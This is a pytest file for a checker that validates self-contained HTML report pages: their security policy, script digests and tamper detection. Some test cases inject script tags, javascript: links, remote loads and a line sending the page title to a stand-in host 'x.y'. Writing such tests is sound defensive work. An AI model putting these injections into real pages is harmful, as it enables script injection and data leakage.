"""A page as written has no problems; each way to spoil it is found."""

import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from workbench import views
from workbench.errors import ReportError
from workbench.report import Report, check
from workbench.storage.json_text import digest
from workbench.views.base import page as pages


@pytest.fixture(scope="module")
def page(make_capture: Any) -> str:
    tokens = ["https://example.org/x.js", "<script src=//x>", "onclick=", "url(http://x)"]
    words = "See [this](https://example.org)."
    return Report("t").add(make_capture(tokens), text="see https://example.org").add(words).to_html()


def problems_of(page: str, folder: Path) -> list[str]:
    path = folder / "page.html"
    path.write_text(page, encoding="utf-8", newline="\n")
    return check(path)


def sealed(page: str) -> str:
    """The page with the digest of itself made to fit, as one who knows how it is made would do."""
    said = re.search(r'name="digest" content="([^"]*)"', page)
    assert said
    bare = page.replace(said[1], "", 1)
    return page.replace(said[1], pages.seal(bare), 1)


def test_a_page_with_addresses_in_its_text_is_fine(page: str, tmp_path: Path) -> None:
    assert problems_of(page, tmp_path) == []
    assert sealed(page) == page


def test_a_page_of_one_view_is_fine(tmp_path: Path) -> None:
    view = views.token_strip([" a", "b"], [0.5, 1.0])
    assert check(view.to_html(tmp_path / "view.html")) == []


SPOILED: list[tuple[str, Callable[[str], str], str]] = [
    ("script", lambda p: p.replace("const modules", "const modules2", 1), "not the one that the policy names"),
    ("style", lambda p: p.replace("--paper: #ffffff", "--paper: #fffffe", 1), "inline style is not the one"),
    ("added script", lambda p: p.replace("</main>", "<script>alert(1)</script></main>"), "inline script is not"),
    (
        "outside script",
        lambda p: p.replace("</main>", "<script src='https://x.y/z.js'></script></main>"),
        "loads 'https",
    ),
    ("outside image", lambda p: p.replace("</main>", "<img src='//x.y/z.png'></main>"), "loads '//x.y"),
    (
        "outside style",
        lambda p: p.replace("</head>", "<link rel=stylesheet href=style.css></head>"),
        "loads 'style.css'",
    ),
    ("handler", lambda p: p.replace("<main>", "<main onclick='x()'>"), "inline handler onclick"),
    ("style attribute", lambda p: p.replace("<main>", "<main style='color:red'>"), "inline style"),
    ("link that runs", lambda p: p.replace("</main>", "<a href='javascript:x()'>x</a></main>"), "runs 'javascript"),
    ("frame", lambda p: p.replace("</main>", "<iframe></iframe></main>"), "no place"),
    ("refresh", lambda p: p.replace("<title>", "<meta http-equiv=refresh content=0><title>"), "leads away"),
    ("no policy", lambda p: p.replace("Content-Security-Policy", "X", 1), "no Content-Security-Policy"),
    (
        "loose policy",
        lambda p: p.replace("default-src 'none';", "default-src 'none'; font-src https:;"),
        "allows https:",
    ),
    (
        "connecting",
        lambda p: p.replace("default-src 'none';", "default-src 'none'; connect-src data:;"),
        "allows data:",
    ),
    ("unsafe policy", lambda p: p.replace("style-src '", "style-src 'unsafe-inline' '", 1), "allows 'unsafe-inline'"),
    ("no forms", lambda p: p.replace("; form-action 'none'", "", 1), "does not say form-action"),
    ("broken data", lambda p: p.replace('{"version"', '{version"', 1), "is not JSON"),
    ("a block gone", lambda p: p.replace('id="view-0"', 'id="view-7"', 1), "do not fit"),
    ("words", lambda p: p.replace("<h2", "<h2 hidden", 1), "changed after it was written"),
    ("no digest", lambda p: p.replace('name="digest"', 'name="x"', 1), "no digest of itself"),
    ("cut short", lambda p: p[: len(p) // 2], "cut short"),
    ("another page", lambda p: "<!doctype html><html><p>Hello</html>", "holds no data"),
]


@pytest.mark.parametrize(("spoil", "said"), [case[1:] for case in SPOILED], ids=[case[0] for case in SPOILED])
def test_what_is_spoiled_is_found(page: str, tmp_path: Path, spoil: Callable[[str], str], said: str) -> None:
    spoiled = spoil(page)
    assert spoiled != page
    problems = problems_of(spoiled, tmp_path)
    assert any(said in problem for problem in problems), problems


def test_a_change_in_any_block_is_found(page: str, tmp_path: Path) -> None:
    """Even by one who makes the digest of the page fit again."""
    blocks = re.findall(r'<script type="application/json" id="([\w-]+)"[^>]*>(.*?)</script>', page, re.DOTALL)
    assert {name for name, _ in blocks} >= {"view-0", "provenance"}
    for name, text in blocks:
        at = max(i for i, letter in enumerate(text) if letter.isdigit())
        changed = text[:at] + ("1" if text[at] != "1" else "2") + text[at + 1 :]
        spoiled = page.replace(text, changed, 1)
        assert f"the data block {name} was changed after the page was written" in problems_of(sealed(spoiled), tmp_path)
        assert "the page was changed after it was written" in problems_of(spoiled, tmp_path)


def test_a_script_of_others_is_found_under_a_policy_that_fits(page: str, tmp_path: Path) -> None:
    inner = page[page.rindex("<script>") + len("<script>") : page.rindex("</script>")]
    other = inner + "\nlocation.href = 'https://x.y/' + document.title;"
    spoiled = sealed(page.replace(inner, other, 1).replace(digest(inner), digest(other), 1))
    problems = problems_of(spoiled, tmp_path)
    assert len(problems) == 1
    assert "a script is not one of this package" in problems[0]
    older = re.sub(r'content="attention-workbench [^"]*"', 'content="attention-workbench 0.0.1"', page)
    assert problems_of(sealed(older), tmp_path) == []
    asking = inner + "\nfetch('https://x.y/');"
    older = sealed(older.replace(inner, asking, 1).replace(digest(inner), digest(asking), 1))
    assert problems_of(older, tmp_path) == ["a script can ask the network: fetch"]


def test_size_and_encoding(page: str, tmp_path: Path) -> None:
    path = tmp_path / "page.html"
    path.write_text(page, encoding="utf-8", newline="\n")
    assert check(path, limit_bytes=1000) == [f"the file has {path.stat().st_size:,} bytes, the limit is 1,000"]
    path.write_bytes(b"\xff\xfe\x00")
    assert check(path) == ["the file is not UTF-8: byte 0"]


def test_a_missing_file_is_an_error(tmp_path: Path) -> None:
    with pytest.raises(ReportError, match="there is no file"):
        check(tmp_path / "none.html")


def test_the_blocks_are_json(page: str) -> None:
    blocks = re.findall(r'<script type="application/json"[^>]*>(.*?)</script>', page, re.DOTALL)
    assert [json.loads(text) for text in blocks]
